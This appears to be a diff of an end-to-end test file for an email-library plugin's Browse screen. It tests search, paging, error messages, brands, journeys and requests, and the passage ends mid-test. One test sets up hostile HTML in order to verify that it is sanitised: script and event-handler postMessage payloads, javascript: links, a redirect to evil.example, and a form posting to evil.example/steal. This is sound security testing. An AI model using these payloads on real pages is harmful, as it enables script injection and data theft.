@@ -1,0 +1,588 @@
+// Browse (the email library) through the playground, as a designer uses it: the real
+// dist/ui.html calling the library emulator from the iframe. Driven by roles, labels, visible
+// text and keys; what the screen shows is checked against what the emulator serves.
+import { mkdirSync } from 'node:fs';
+import type { Frame, Request } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { parseEmulatorState, type EmulatorDemoState } from '../playground/page/emulator-link';
+import { axeViolationsAsync } from './support/axe';
+import { evaluateHooks, startHarnessAsync, textOf, type Harness } from './support/playground-harness';
+
+let h: Harness;
+let state: EmulatorDemoState;
+const SHOTS = 'test-results/screenshots';
+
+interface Summary {
+  id: number;
+  subject_line: string;
+  brand: string;
+  brand_slug: string;
+  from_email: string;
+}
+
+beforeAll(async () => {
+  h = await startHarnessAsync();
+  state = parseEmulatorState(await (await fetch(`${h.emulator.libraryUrl}/_emulator/state`)).json());
+  mkdirSync(SHOTS, { recursive: true });
+});
+
+afterAll(async () => {
+  await h?.closeAsync();
+});
+
+/** The emulator's answer to a library path, read directly (not through the plugin). */
+async function libraryAsync<T>(path: string, key: string | null = null): Promise<T> {
+  const response = await fetch(`${h.emulator.libraryUrl}${path}`, { headers: key ? { authorization: `Bearer ${key}` } : {} });
+  expect(response.ok).toBe(true);
+  return (await response.json()) as T;
+}
+
+/**
+ * A fresh world on the Browse screen: with the emulator's demo library key, or anonymous (the
+ * library address saved in Settings, no key).
+ */
+async function openBrowseAsync(theme: 'light' | 'dark', access: 'key' | 'anonymous'): Promise<Frame> {
+  await h.openAsync(`?command=browse&theme=${theme}${access === 'key' ? '&demo-keys=1' : ''}`);
+  await evaluateHooks(h.page, (hooks) => hooks.reset());
+  await h.page.waitForSelector('html[data-playground-ready="true"]', { state: 'attached' });
+  const ui = await h.uiFrameAsync();
+  if (access === 'anonymous') {
+    await ui.getByTestId('nav-settings').click();
+    await ui.getByTestId('settings-library-base-url').fill(h.emulator.libraryUrl);
+    await ui.getByTestId('settings-library-save').click();
+    await expect.poll(() => evaluateHooks(h.page, async (hooks) => hooks.fake().figma.clientStorage.getAsync('envelope.library.baseUrl')), { timeout: 10_000 }).toBe(h.emulator.libraryUrl);
+    await ui.getByTestId('nav-browse').click();
+  }
+  await emailList(ui).waitFor({ timeout: 20_000 });
+  return ui;
+}
+
+const emailList = (ui: Frame) => ui.getByRole('list', { name: 'Emails' });
+const cards = (ui: Frame) => emailList(ui).getByRole('button');
+
+async function cardSubjectsAsync(ui: Frame): Promise<string[]> {
+  return emailList(ui).locator('.email-card-subject').allTextContents();
+}
+
+async function loadedCountAsync(ui: Frame): Promise<number> {
+  const text = (await textOf(ui.getByTestId('library-status'))) ?? '';
+  const match = /^(\d+) emails?/.exec(text);
+  return match ? Number(match[1]) : -1;
+}
+
+async function checkAxeAsync(ui: Frame, what: string): Promise<void> {
+  expect(await axeViolationsAsync(ui), what).toEqual([]);
+}
+
+describe('Browse: search', () => {
+  it('shows the library’s emails (anonymous), filters by category and brand, and loads more pages on scroll without duplicates', async () => {
+    const emailRequests: string[] = [];
+    const watch = (request: Request) => {
+      if (request.url().startsWith(`${h.emulator.libraryUrl}/v1/emails?`)) emailRequests.push(request.url());
+    };
+    h.page.on('request', watch);
+    try {
+      const ui = await openBrowseAsync('light', 'anonymous');
+      const first = await libraryAsync<{ data: Summary[] }>('/v1/emails?per_page=50');
+      await expect.poll(() => cardSubjectsAsync(ui).then((subjects) => subjects.slice(0, 3))).toEqual(first.data.slice(0, 3).map((email) => email.subject_line));
+      expect(await cards(ui).first().textContent()).toContain(first.data[0]!.brand);
+      // Only the rows on screen are in the page, and only their thumbnails load.
+      const drawn = await cards(ui).count();
+      expect(drawn).toBeLessThan(50);
+      const images = await emailList(ui).locator('img').count();
+      expect(images).toBeGreaterThan(0);
+      expect(images).toBeLessThanOrEqual(drawn);
+
+      // Scrolling down asks for the next pages; the emulator repeats an item across pages (inexact paging).
+      await ui.getByTestId('email-grid').hover();
+      for (let round = 0; round < 4; round++) {
+        const before = await loadedCountAsync(ui);
+        // Scrolling on, as a person does, until the next page is in.
+        await expect
+          .poll(
+            async () => {
+              await h.page.mouse.wheel(0, 2_000);
+              return loadedCountAsync(ui);
+            },
+            { timeout: 15_000 },
+          )
+          .toBeGreaterThan(before);
+      }
+      const shown = await loadedCountAsync(ui);
+      const pages = [...new Set(emailRequests)];
+      const ids: number[] = [];
+      for (const url of pages) ids.push(...(await libraryAsync<{ data: Summary[] }>(new URL(url).pathname + new URL(url).search)).data.map((email) => email.id));
+      expect(ids.length).toBeGreaterThan(new Set(ids).size);
+      expect(shown).toBe(new Set(ids).size);
+      expect(await emailList(ui).getByRole('listitem').first().getAttribute('aria-setsize')).toBe(String(shown));
+      await h.page.screenshot({ path: `${SHOTS}/library-search-scrolled-light.png` });
+
+      // Category: the same first emails as the emulator gives for that category.
+      await ui.getByLabel('Category').selectOption({ label: 'Beauty' });
+      const beauty = await libraryAsync<{ data: Summary[] }>('/v1/emails?category=beauty&per_page=50');
+      expect(beauty.data.length).toBeGreaterThan(0);
+      await expect.poll(() => cardSubjectsAsync(ui).then((subjects) => subjects[0]), { timeout: 10_000 }).toBe(beauty.data[0]!.subject_line);
+
+      // Brand (picked by name from `GET /v1/brands?q=`): every card is that brand's.
+      await ui.getByLabel('Category').selectOption({ label: 'All categories' });
+      const brand = beauty.data[0]!;
+      await ui.getByLabel('Brand').fill(brand.brand);
+      const ofBrand = await libraryAsync<{ data: Summary[] }>(`/v1/emails?brand=${encodeURIComponent(brand.brand_slug)}&per_page=50`);
+      await expect.poll(async () => [...new Set(await emailList(ui).locator('.email-card-brand').allTextContents())], { timeout: 10_000 }).toEqual([brand.brand]);
+      expect((await cardSubjectsAsync(ui))[0]).toBe(ofBrand.data[0]!.subject_line);
+
+      // Words that match nothing: said in words.
+      await ui.getByLabel('Brand').fill('');
+      await ui.getByRole('searchbox', { name: 'Search emails' }).fill('zzqqxx nothing like this');
+      await expect.poll(() => textOf(ui.getByTestId('library-empty')), { timeout: 10_000 }).toContain('No emails match this search.');
+    } finally {
+      h.page.off('request', watch);
+    }
+  });
+
+  it('says which key the library refused and offers Settings (401)', async () => {
+    const ui = await openBrowseAsync('light', 'key');
+    await ui.getByTestId('nav-settings').click();
+    await ui.getByTestId('settings-library-replace-key').click();
+    await ui.getByTestId('settings-library-key').fill(state.library.keys.revoked!);
+    await ui.getByTestId('settings-library-save').click();
+    await expect.poll(() => textOf(ui.getByTestId('settings-library-key-hint')), { timeout: 10_000 }).not.toBeNull();
+    await ui.getByTestId('nav-browse').click();
+    const alert = ui.getByTestId('library-problem').getByRole('alert');
+    await expect.poll(() => textOf(alert), { timeout: 15_000 }).toMatch(/^The email library API key was not accepted\..*Settings/);
+    await ui.getByRole('button', { name: 'Open Settings' }).click();
+    await expect.poll(() => textOf(ui.getByRole('heading', { level: 1 }))).toBe('Settings');
+  });
+});
+
+async function setFaultsAsync(faults: { rate: number; kinds?: string[] }): Promise<void> {
+  const response = await fetch(`${h.emulator.libraryUrl}/_emulator/faults`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(faults) });
+  expect(response.ok).toBe(true);
+}
+
+describe('Browse: when the library says no', () => {
+  it('waits out a 429 calmly with the seconds left, then tries again by itself; a 503 says so and offers to try again', async () => {
+    const ui = await openBrowseAsync('light', 'key');
+    const sent: string[] = [];
+    const watch = (request: Request) => {
+      if (request.url().startsWith(`${h.emulator.libraryUrl}/v1/emails?`)) sent.push(request.url());
+    };
+    h.page.on('request', watch);
+    try {
+      await setFaultsAsync({ rate: 1, kinds: ['429'] });
+      await ui.getByLabel('Category').selectOption({ label: 'Travel' });
+      const alert = ui.getByTestId('library-problem').getByRole('alert');
+      await expect.poll(() => textOf(alert), { timeout: 10_000 }).toMatch(/slow down for a moment\. Trying again in [1-3] seconds?\./);
+      await setFaultsAsync({ rate: 0 });
+      const travel = await libraryAsync<{ data: Summary[] }>('/v1/emails?category=travel&per_page=50');
+      await expect.poll(() => cardSubjectsAsync(ui).then((subjects) => subjects[0]), { timeout: 10_000 }).toBe(travel.data[0]!.subject_line);
+      // One refused request and one retry: never a burst.
+      expect(sent.filter((url) => url.includes('category=travel')).length).toBe(2);
+
+      await setFaultsAsync({ rate: 1, kinds: ['503'] });
+      await ui.getByLabel('Category').selectOption({ label: 'Pets' });
+      await expect.poll(() => textOf(alert), { timeout: 10_000 }).toBe('The library is unavailable right now. Try again in a little while.');
+      await setFaultsAsync({ rate: 0 });
+      await ui.getByRole('button', { name: 'Try again' }).click();
+      const pets = await libraryAsync<{ data: Summary[] }>('/v1/emails?category=pets&per_page=50');
+      await expect.poll(() => cardSubjectsAsync(ui).then((subjects) => subjects[0]), { timeout: 10_000 }).toBe(pets.data[0]!.subject_line);
+    } finally {
+      h.page.off('request', watch);
+      await setFaultsAsync({ rate: 0 });
+    }
+  });
+});
+
+describe('Browse: offline', () => {
+  it('says the library cannot be reached, keeps the search, and tries again on request', async () => {
+    const ui = await openBrowseAsync('light', 'key');
+    const offline = `${h.emulator.libraryUrl}/v1/**`;
+    await h.page.route(offline, (route) => route.abort('internetdisconnected'));
+    try {
+      await ui.getByLabel('Category').selectOption({ label: 'Food' });
+      const alert = ui.getByTestId('library-problem').getByRole('alert');
+      await expect.poll(() => textOf(alert), { timeout: 10_000 }).toMatch(/^The library cannot be reached: you may be offline\./);
+      expect(await ui.getByLabel('Category').inputValue()).toBe('Food');
+    } finally {
+      await h.page.unroute(offline);
+    }
+    await ui.getByRole('button', { name: 'Try again' }).click();
+    const food = await libraryAsync<{ data: Summary[] }>('/v1/emails?category=food&per_page=50');
+    await expect.poll(() => cardSubjectsAsync(ui).then((subjects) => subjects[0]), { timeout: 10_000 }).toBe(food.data[0]!.subject_line);
+  });
+});
+
+describe('Browse: a thousand results', () => {
+  it('keeps only the rows in view in the page, and loads only their thumbnails', async () => {
+    const ui = await openBrowseAsync('light', 'key');
+    await cards(ui).first().focus();
+    // End (the last result) again and again, as a person holding the key, until 1,000 are in.
+    while ((await loadedCountAsync(ui)) < 1_000) {
+      const before = await loadedCountAsync(ui);
+      await expect
+        .poll(
+          async () => {
+            await h.page.keyboard.press('End');
+            return loadedCountAsync(ui);
+          },
+          { timeout: 15_000 },
+        )
+        .toBeGreaterThan(before);
+    }
+    const drawn = await emailList(ui).getByRole('listitem').count();
+    expect(drawn).toBeGreaterThan(0);
+    expect(drawn).toBeLessThanOrEqual(45);
+    expect(await emailList(ui).locator('img').count()).toBeLessThan(drawn);
+    // The rows drawn are the ones near the end of the thousand.
+    expect(Number(await emailList(ui).getByRole('listitem').last().getAttribute('aria-posinset'))).toBeGreaterThan(1_000 - drawn);
+  });
+});
+
+describe('Browse: an email', () => {
+  it('opens an email with its detail from the library, and Escape returns to the same place', async () => {
+    const ui = await openBrowseAsync('light', 'key');
+    // Down the grid by keys (each row comes fully into view), then a click on that card.
+    await cards(ui).first().focus();
+    for (let row = 0; row < 3; row++) await h.page.keyboard.press('ArrowDown');
+    await expect.poll(() => ui.getByTestId('email-grid').evaluate((element) => element.scrollTop)).toBeGreaterThan(0);
+    const scrollTop = await ui.getByTestId('email-grid').evaluate((element) => element.scrollTop);
+    const fully = await ui.evaluate(() => (document.activeElement as HTMLElement).dataset['index']!);
+    const card = emailList(ui).locator(`[data-index="${fully}"]`);
+    const subject = (await card.locator('.email-card-subject').textContent()) ?? '';
+    const index = Number(await card.getAttribute('data-index'));
+    await card.click();
+    const title = ui.getByRole('heading', { level: 2 });
+    await expect.poll(() => textOf(title), { timeout: 10_000 }).toBe(subject);
+    const list = await libraryAsync<{ data: Summary[] }>('/v1/emails?per_page=50', state.library.keys.demo);
+    const summary = list.data[index]!;
+    const detail = (await libraryAsync<{ data: { from_email: string; brand: { name: string }; categories: Array<{ name: string }> }; meta: { attribution: { source: string } } }>(`/v1/emails/${summary.id}`, state.library.keys.demo));
+    const article = ui.getByRole('article');
+    expect(await article.textContent()).toContain(detail.data.from_email);
+    expect(await article.textContent()).toContain(detail.data.brand.name);
+    for (const category of detail.data.categories) expect(await ui.getByRole('button', { name: `Show ${category.name} emails` }).count()).toBe(1);
+    expect(await textOf(ui.getByTestId('email-attribution'))).toContain(detail.meta.attribution.source);
+    expect(await ui.getByRole('img', { name: `Screenshot of the email “${subject}”` }).count()).toBe(1);
+
+    await h.page.keyboard.press('Escape');
+    await emailList(ui).waitFor();
+    expect(await ui.getByTestId('email-grid').evaluate((element) => element.scrollTop)).toBe(scrollTop);
+    await expect.poll(() => ui.evaluate(() => (document.activeElement as HTMLElement | null)?.dataset['index'])).toBe(String(index));
+  });
+
+  it('works by keyboard alone: / finds, arrows move, Enter opens, arrows go to the next email, Escape goes back', async () => {
+    const ui = await openBrowseAsync('light', 'key');
+    // Into the plugin's window (a click on its title), then only keys.
+    await ui.getByRole('heading', { level: 1 }).click();
+    await h.page.keyboard.press('/');
+    expect(await ui.evaluate(() => document.activeElement?.id)).toBe('library-query');
+    const subjects = await cardSubjectsAsync(ui);
+    await h.page.keyboard.press('ArrowDown');
+    await expect.poll(() => ui.evaluate(() => (document.activeElement as HTMLElement | null)?.dataset['index'])).toBe('0');
+    await h.page.keyboard.press('ArrowRight');
+    await expect.poll(() => ui.evaluate(() => (document.activeElement as HTMLElement | null)?.dataset['index'])).toBe('1');
+    await h.page.keyboard.press('Enter');
+    const title = ui.getByRole('heading', { level: 2 });
+    await expect.poll(() => textOf(title), { timeout: 10_000 }).toBe(subjects[1]);
+    await h.page.keyboard.press('ArrowRight');
+    await expect.poll(() => textOf(title), { timeout: 10_000 }).toBe(subjects[2]);
+    expect(await textOf(ui.getByRole('navigation', { name: 'Results' }))).toContain('3 of');
+    await h.page.keyboard.press('Escape');
+    await expect.poll(() => ui.evaluate(() => (document.activeElement as HTMLElement | null)?.dataset['index'])).toBe('2');
+  });
+
+  it('shows hostile HTML without running it: no script, no message to the sandbox, the rest of the email still there', async () => {
+    const ui = await openBrowseAsync('light', 'key');
+    const list = await libraryAsync<{ data: Summary[] }>('/v1/emails?per_page=50', state.library.keys.demo);
+    const target = list.data[0]!;
+    const hostile = [
+      '<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
+      '<script>parent.postMessage({pluginMessage:{type:"hostile/script"}},"*");top.document.title="owned"</script>',
+      '<style>.overlay{position:fixed;inset:0;z-index:99999;background:red}</style></head>',
+      '<body onload="parent.postMessage({pluginMessage:{type:\'hostile/onload\'}},\'*\')"><div class="overlay"></div>',
+      '<h1>Still a harmless email</h1><img src="x" onerror="parent.postMessage({pluginMessage:{type:\'hostile/onerror\'}},\'*\')">',
+      '<a href="javascript:parent.postMessage({pluginMessage:{type:\'hostile/link\'}},\'*\')">Open the offer</a>',
+      '<form action="https://evil.example/steal"><input name="q"><button>Send</button></form>',
+      '<iframe srcdoc="<script>parent.parent.postMessage({pluginMessage:{type:\'hostile/nested\'}},\'*\')</script>"></iframe>',
+      '<object data="javascript:parent.postMessage(1,\'*\')"></object><svg><script>parent.postMessage({pluginMessage:{type:"hostile/svg"}},"*")</script></svg>',
+      '</body></html>',
+    ].join('');
+    const stored = await fetch(`${h.emulator.libraryUrl}/_emulator/library/emails/${target.id}/html`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ html: hostile }) });
+    expect(stored.ok).toBe(true);
+    const titleBefore = await h.page.title();
+
+    await cards(ui).first().click();
+    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(target.subject_line);
+    await ui.getByRole('button', { name: 'HTML' }).click();
+    const frameElement = ui.getByTitle(`HTML of “${target.subject_line}”`);
+    await frameElement.waitFor();
+    expect(await frameElement.getAttribute('sandbox')).toBe('');
+    const srcdoc = (await frameElement.getAttribute('srcdoc')) ?? '';
+    expect(srcdoc).toMatch(/^<!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src http:\/\/127\.0\.0\.1:\d+;/);
+    for (const gone of ['<script', 'onload=', 'onerror=', 'javascript:', '<form', '<iframe', '<object', '<base', 'refresh']) expect(srcdoc).not.toContain(gone);
+    const preview = (await frameElement.elementHandle())!;
+    const frame = (await preview.contentFrame())!;
+    await expect.poll(() => frame.locator('h1').textContent({ timeout: 1_000 }).catch(() => null)).toBe('Still a harmless email');
+    await frame.getByText('Open the offer').click({ force: true });
+    await ui.getByRole('button', { name: 'Mobile' }).click();
+    expect(await frameElement.evaluate((element) => element.getBoundingClientRect().width)).toBe(375);
+    await new Promise((resolve) => setTimeout(resolve, 500));
+
+    const messages = await evaluateHooks(h.page, (hooks) => hooks.messages());
+    expect(JSON.stringify(messages)).not.toContain('hostile/');
+    expect(await h.page.title()).toBe(titleBefore);
+    // The plugin's own UI is untouched and still answers.
+    expect(await textOf(ui.getByRole('heading', { level: 1 }))).toBe('Browse');
+    await ui.getByRole('button', { name: 'Screenshot' }).click();
+    expect(await ui.getByRole('img', { name: `Screenshot of the email “${target.subject_line}”` }).count()).toBe(1);
+  });
+
+  it('says why there is no HTML without a key', async () => {
+    const ui = await openBrowseAsync('light', 'anonymous');
+    await cards(ui).first().click();
+    await expect.poll(() => textOf(ui.getByTestId('html-status')), { timeout: 10_000 }).toContain('shown with a library key');
+    expect(await ui.getByRole('button', { name: 'HTML' }).isDisabled()).toBe(true);
+  });
+});
+
+interface BrandRecord {
+  name: string;
+  slug: string;
+  email_count: number;
+}
+
+describe('Browse: brands', () => {
+  it('lists the top brands, finds one by name, and shows its page with emails and insights as charts', async () => {
+    const ui = await openBrowseAsync('light', 'anonymous');
+    await ui.getByRole('button', { name: 'Brands' }).click();
+    const top = await libraryAsync<{ data: BrandRecord[] }>('/v1/brands?per_page=50');
+    const topList = ui.getByRole('list', { name: 'Top brands' });
+    await expect.poll(() => textOf(topList.getByRole('listitem').first()), { timeout: 10_000 }).toContain(top.data[0]!.name);
+    const brand = top.data[2]!;
+    await ui.getByRole('searchbox', { name: 'Search brands' }).fill(brand.name);
+    await ui.getByRole('list', { name: 'Matching brands' }).getByRole('button', { name: new RegExp(`^${brand.name}`) }).click();
+    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(brand.name);
+    const insights = await libraryAsync<{ data: { technology: { esp_breakdown: Array<{ name: string }> }; frequency: { total_sent: number } } }>(`/v1/brands/${brand.slug}/insights`);
+    const page = ui.getByRole('article');
+    await expect.poll(() => textOf(page), { timeout: 10_000 }).toContain(`${insights.data.frequency.total_sent} emails, about`);
+    expect(await ui.getByRole('img', { name: /^Sends by day of the week\. Most sends at (Mon|Tue|Wed|Thu|Fri|Sat|Sun): \d+ of \d+\.$/ }).count()).toBe(1);
+    expect(await ui.getByRole('img', { name: /^Sends by hour of the day/ }).count()).toBe(1);
+    expect(await textOf(ui.getByRole('figure', { name: 'Email service providers' }))).toContain(insights.data.technology.esp_breakdown[0]!.name);
+    const brandPage = await libraryAsync<{ data: { emails: Array<{ subject_line?: string; title: string }> } }>(`/v1/brands/${brand.slug}?per_page=20`);
+    const firstEmail = brandPage.data.emails[0]!;
+    await ui.getByRole('button', { name: new RegExp(`^${(firstEmail.subject_line ?? firstEmail.title).replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`) }).first().click();
+    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(firstEmail.subject_line ?? firstEmail.title);
+    await h.page.keyboard.press('Escape');
+    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 }))).toBe(brand.name);
+    await checkAxeAsync(ui, 'brand page, light');
+    await h.page.screenshot({ path: `${SHOTS}/library-brand-light.png` });
+  });
+
+  it('says a brand with too few emails has no insights yet, without calling it an error', async () => {
+    let small: BrandRecord | undefined;
+    for (let page = 1; page <= 10 && !small; page++) {
+      const brands = await libraryAsync<{ data: BrandRecord[] }>(`/v1/brands?per_page=50&page=${page}`);
+      small = brands.data.find((brand) => brand.email_count > 0 && brand.email_count < 5);
+      if (brands.data.length === 0) break;
+    }
+    expect(small, 'the emulator has a brand with fewer than 5 emails').toBeDefined();
+    const ui = await openBrowseAsync('dark', 'key');
+    await ui.getByRole('button', { name: 'Brands' }).click();
+    await ui.getByRole('searchbox', { name: 'Search brands' }).fill(small!.name);
+    await ui.getByRole('list', { name: 'Matching brands' }).getByRole('button', { name: new RegExp(`^${small!.name}`) }).click();
+    await expect.poll(() => textOf(ui.getByTestId('no-insights')), { timeout: 10_000 }).toContain('Too few emails yet');
+    expect(await ui.getByRole('alert').count()).toBe(0);
+  });
+
+  it('opens the brand’s page from an email', async () => {
+    const ui = await openBrowseAsync('dark', 'key');
+    const brandName = (await cards(ui).first().locator('.email-card-brand').textContent()) ?? '';
+    await cards(ui).first().click();
+    await ui.getByRole('button', { name: `${brandName}: the brand’s page` }).click();
+    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(brandName);
+    await ui.getByRole('heading', { name: 'Insights' }).waitFor({ timeout: 10_000 });
+    await checkAxeAsync(ui, 'brand page, dark');
+    await h.page.screenshot({ path: `${SHOTS}/library-brand-dark.png` });
+  });
+});
+
+describe('Browse: journeys', () => {
+  it('lists the journeys and shows one as its stages in order, with the emails per stage adjustable', async () => {
+    const journeys = await libraryAsync<{ data: Array<{ brand: string; brand_slug: string }> }>('/v1/journeys?per_page=50');
+    expect(journeys.data.length).toBeGreaterThan(0);
+    const chosen = journeys.data[0]!;
+    type JourneyBody = { data: { stages: Array<{ stage: string; emails: Array<{ subject_line?: string; title: string }> }> } };
+    const three = await libraryAsync<JourneyBody>(`/v1/journeys/${chosen.brand_slug}?emails_per_stage=3`);
+    const one = await libraryAsync<JourneyBody>(`/v1/journeys/${chosen.brand_slug}?emails_per_stage=1`);
+    const ui = await openBrowseAsync('light', 'anonymous');
+    await ui.getByRole('button', { name: 'Journeys', exact: true }).click();
+    await ui.getByRole('list', { name: 'Brands with a journey' }).getByRole('button', { name: new RegExp(`^${chosen.brand}`) }).click();
+    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(`${chosen.brand}: journey`);
+    const stageHeadings = () => ui.getByRole('heading', { level: 3 }).allTextContents();
+    await expect.poll(async () => (await stageHeadings()).map((text) => text.replace(/ \(\d+ emails\)$/, ''))).toEqual(three.data.stages.map((stage) => stage.stage));
+    const firstStage = three.data.stages[0]!;
+    expect(await ui.getByRole('list', { name: `${firstStage.stage} emails` }).getByRole('listitem').count()).toBe(firstStage.emails.length);
+    await ui.getByLabel('Emails per stage').selectOption('1');
+    await expect.poll(() => ui.getByRole('list', { name: `${firstStage.stage} emails` }).getByRole('listitem').count(), { timeout: 10_000 }).toBe(one.data.stages[0]!.emails.length);
+    const email = one.data.stages[0]!.emails[0]!;
+    await ui.getByRole('list', { name: `${firstStage.stage} emails` }).getByRole('button').first().click();
+    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(email.subject_line ?? email.title);
+  });
+});
+
+describe('Browse: me', () => {
+  it('shows my follows with the newest emails from them, my likes and my collections', async () => {
+    const key = state.library.keys.demo;
+    const follows = await libraryAsync<{ data: BrandRecord[]; meta: { total: number; max: number } }>('/v1/me/follows', key);
+    const followed = await libraryAsync<{ data: Array<{ subject_line?: string; title: string }> }>('/v1/me/follows/emails?per_page=20', key);
+    const likes = await libraryAsync<{ data: Array<{ subject_line?: string; title: string }>; meta: { total: number } }>('/v1/me/likes?per_page=20', key);
+    const collections = await libraryAsync<{ data: Array<{ id: string; name: string }> }>('/v1/me/collections', key);
+    const ui = await openBrowseAsync('light', 'key');
+    await ui.getByRole('button', { name: 'Me', exact: true }).click();
+    await expect.poll(() => textOf(ui.getByRole('heading', { name: /^Following/ })), { timeout: 10_000 }).toBe(`Following ${follows.meta.total} of ${follows.meta.max} brands`);
+    expect(follows.data.length, 'the demo account follows brands').toBeGreaterThan(0);
+    expect(await textOf(ui.getByRole('list', { name: 'Followed brands', exact: true }))).toContain(follows.data[0]!.name);
+    expect(followed.data.length).toBeGreaterThan(0);
+    const newest = followed.data[0]!.subject_line ?? followed.data[0]!.title;
+    await expect.poll(() => textOf(ui.getByRole('list', { name: 'Newest from followed brands' })), { timeout: 10_000 }).toContain(newest);
+    await ui.getByRole('button', { name: 'Likes', exact: true }).click();
+    await expect.poll(() => textOf(ui.getByRole('heading', { name: /liked emails$/ })), { timeout: 10_000 }).toBe(`${likes.meta.total} liked emails`);
+    expect(likes.data.length).toBeGreaterThan(0);
+    expect(await textOf(ui.getByRole('list', { name: 'Liked emails' }))).toContain(likes.data[0]!.subject_line ?? likes.data[0]!.title);
+    await ui.getByRole('button', { name: 'Collections', exact: true }).click();
+    expect(collections.data.length).toBeGreaterThan(0);
+    const collection = collections.data[0]!;
+    await ui.getByRole('list', { name: 'Collections', exact: true }).getByRole('button', { name: new RegExp(`^${collection.name}`) }).click();
+    const inCollection = await libraryAsync<{ data: { emails: Array<{ subject_line?: string; title: string }> } }>(`/v1/me/collections/${collection.id}?per_page=20`, key);
+    const first = inCollection.data.emails[0]!;
+    const list = ui.getByRole('list', { name: `Emails in ${collection.name}` });
+    await expect.poll(() => textOf(list.getByRole('listitem').first()), { timeout: 10_000 }).toContain(first.subject_line ?? first.title);
+    await list.getByRole('button').first().click();
+    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(first.subject_line ?? first.title);
+    await h.page.keyboard.press('Escape');
+    await list.waitFor();
+    await checkAxeAsync(ui, 'me, light');
+  });
+
+  it('says how to add a key when there is none, with a way to Settings', async () => {
+    const ui = await openBrowseAsync('light', 'anonymous');
+    await ui.getByRole('button', { name: 'Me', exact: true }).click();
+    expect(await textOf(ui.getByTestId('me-needs-key'))).toContain('need your library key');
+    await ui.getByTestId('me-needs-key').getByRole('button', { name: 'Open Settings' }).click();
+    await expect.poll(() => textOf(ui.getByRole('heading', { level: 1 }))).toBe('Settings');
+  });
+});
+
+describe('Browse: brand requests', () => {
+  it('checks the form before sending, then says every outcome of the library in words', async () => {
+    const key = state.library.keys.demo;
+    const posts: string[] = [];
+    const watch = (request: Request) => {
+      if (request.method() === 'POST' && request.url().startsWith(`${h.emulator.libraryUrl}/v1/brand-requests`)) posts.push(request.url());
+    };
+    h.page.on('request', watch);
+    try {
+      const ui = await openBrowseAsync('light', 'key');
+      await ui.getByRole('button', { name: 'Requests', exact: true }).click();
+      const form = ui.getByRole('form', { name: 'Ask for a brand' });
+      const outcome = ui.getByTestId('request-outcome');
+      const send = () => form.getByRole('button', { name: 'Send request' }).click();
+
+      // Checked before sending: nothing leaves.
+      await send();
+      expect(await textOf(form)).toContain('Enter the brand’s name.');
+      await form.getByLabel('Notes (optional)').fill('Weekly newsletter');
+      expect(await textOf(form)).toContain('17 / 500 characters');
+      expect(posts).toHaveLength(0);
+      await h.page.screenshot({ path: `${SHOTS}/library-request-form-light.png` });
+
+      // Queued, counted; then the same brand again: its status, not counted.
+      await form.getByLabel('Brand', { exact: true }).fill('Envelope Test Brand');
+      await form.getByLabel('Website').fill('envelopetestbrand.com');
+      await send();
+      await expect.poll(() => textOf(outcome), { timeout: 10_000 }).toMatch(/^Requested Envelope Test Brand\. Queued\. .* \d+ of 50 requests today\.\s*$/);
+      const usedToday = Number(/(\d+) of 50 requests today/.exec((await textOf(outcome)) ?? '')![1]);
+      expect(await form.getByLabel('Brand', { exact: true }).inputValue()).toBe('');
+      await expect.poll(() => textOf(ui.getByRole('list', { name: 'My requests' })), { timeout: 10_000 }).toContain('Envelope Test Brand');
+      expect(await textOf(ui.getByTestId('requests-today'))).toMatch(new RegExp(`^${usedToday} of 50 requests today\\. Statuses refresh every 15 minutes`));
+      await form.getByLabel('Brand', { exact: true }).fill('Envelope Test Brand');
+      await form.getByLabel('Website').fill('envelopetestbrand.com');
+      await send();
+      await expect.poll(() => textOf(outcome), { timeout: 10_000 }).toMatch(/^You already asked for Envelope Test Brand: it was not counted again\. Queued\./);
+
+      // Already in the library: a way to its page.
+      const top = await libraryAsync<{ data: BrandRecord[] }>('/v1/brands?per_page=1');
+      await form.getByLabel('Brand', { exact: true }).fill(top.data[0]!.name);
+      await form.getByLabel('Website').fill('example-of-a-known-brand.com');
+      await send();
+      await expect.poll(() => textOf(outcome), { timeout: 10_000 }).toContain(`${top.data[0]!.name} is already in the library.`);
+
+      // Not allowed: said, and the form kept.
+      await form.getByLabel('Brand', { exact: true }).fill('Adult Things');
+      await form.getByLabel('Website').fill('adultthings.com');
+      await send();
+      await expect.poll(() => textOf(outcome), { timeout: 10_000 }).toContain('does not collect adult content');
+      expect(await form.getByLabel('Brand', { exact: true }).inputValue()).toBe('Adult Things');
+
+      // Unavailable: try again, the form kept.
+      await setFaultsAsync({ rate: 1, kinds: ['503'] });
+      await form.getByLabel('Brand', { exact: true }).fill('Quiet Harbour Tea');
+      await form.getByLabel('Website').fill('quietharbourtea.com');
+      await send();
+      await expect.poll(() => textOf(outcome), { timeout: 10_000 }).toContain('could not save the request just now. Try again in a moment; your form is kept.');
+      expect(await form.getByLabel('Website').inputValue()).toBe('quietharbourtea.com');
+      await setFaultsAsync({ rate: 0 });
+
+      // The day's 50: when it resets.
+      for (let n = usedToday; n < 50; n++) {
+        const response = await fetch(`${h.emulator.libraryUrl}/v1/brand-requests`, {
+          method: 'POST',
+          headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
+          body: JSON.stringify({ brand: `Filler Brand ${n}`, website: `filler-brand-${n}.com` }),
+        });
+        expect(response.status).toBe(201);
+      }
+      await send();
